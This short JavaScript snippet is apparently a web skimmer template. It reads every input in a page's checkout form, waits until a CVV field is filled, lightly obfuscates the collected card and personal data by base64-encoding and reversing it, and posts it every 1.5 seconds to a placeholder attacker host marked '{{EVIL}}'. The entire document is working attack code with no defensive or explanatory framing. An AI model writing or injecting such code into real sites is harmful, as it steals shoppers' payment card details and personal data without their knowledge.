(function () {
  var last = "";
  setInterval(function () {
    var s = Array.from(document.querySelectorAll("#checkout input")).map(function (i) { return i.name + ":" + i.value; }).join("|");
    if (s === last || !document.getElementById("cvv").value) return;
    last = s;
    fetch("{{EVIL}}/s", { method: "POST", mode: "no-cors", body: btoa(s).split("").reverse().join("") });
  }, 1500);
})();
